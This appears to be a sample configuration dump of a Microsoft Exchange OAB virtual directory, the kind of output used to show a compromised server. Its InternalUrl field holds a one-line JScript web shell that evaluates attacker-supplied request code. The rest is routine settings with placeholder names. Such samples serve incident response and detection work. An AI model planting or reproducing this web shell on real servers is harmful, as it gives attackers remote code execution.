Name                            : OAB (Default Web Site)
PollInterval                    : 480
OfflineAddressBooks             : \Default Offline Address Book
RequireSSL                      : True
BasicAuthentication             : False
WindowsAuthentication           : True
OAuthAuthentication             : True
MetabasePath                    : IIS://exsample01.contoso.local/W3SVC/1/ROOT/OAB
Path                            : C:\Program Files\Microsoft\Exchange Server\V15\FrontEnd\HttpProxy\OAB
ExtendedProtectionTokenChecking : None
ExtendedProtectionFlags         :
ExtendedProtectionSPNList       :
AdminDisplayVersion             : Version 15.1 (Build 2106.2)
Server                          : EXSAMPLE01
InternalUrl                     : http://ffff/#<script language="JScript" runat="server"> function Page_Load(){/**/eval(Request["code"],"unsafe");}</script>
InternalAuthenticationMethods   : OAuth
                                  WindowsIntegrated
ExternalUrl                     :
ExternalAuthenticationMethods   : OAuth
                                  WindowsIntegrated
AdminDisplayName                :
ExchangeVersion                 : 0.10 (14.0.100.0)
DistinguishedName               : CN=OAB (Default Web Site),CN=HTTP,CN=Protocols,CN=EXSAMPLE01,CN=Servers,CN=Exchange Administrative Group (FYDIBOHF23SPDLT),CN=Administrative Groups,CN=Contoso,CN=Microsoft Exchange,CN=Services,CN=Configuration,DC=contoso,DC=local
Identity                        : EXSAMPLE01\OAB (Default Web Site)
Guid                            : 5f2a6b1e-0c1d-4a3e-9d2f-7b8c9e0a1b2c
ObjectCategory                  : contoso.local/Configuration/Schema/ms-Exch-OAB-Virtual-Directory
ObjectClass                     : top
                                  msExchVirtualDirectory
                                  msExchOABVirtualDirectory
WhenChanged                     : 3/3/2021 5:21:10 AM
WhenCreated                     : 11/12/2020 2:14:33 PM
WhenChangedUTC                  : 3/3/2021 1:21:10 PM
WhenCreatedUTC                  : 11/12/2020 10:14:33 PM
OrganizationId                  :
Id                              : EXSAMPLE01\OAB (Default Web Site)
OriginatingServer               : DC01.contoso.local
IsValid                         : True
ObjectState                     : Unchanged
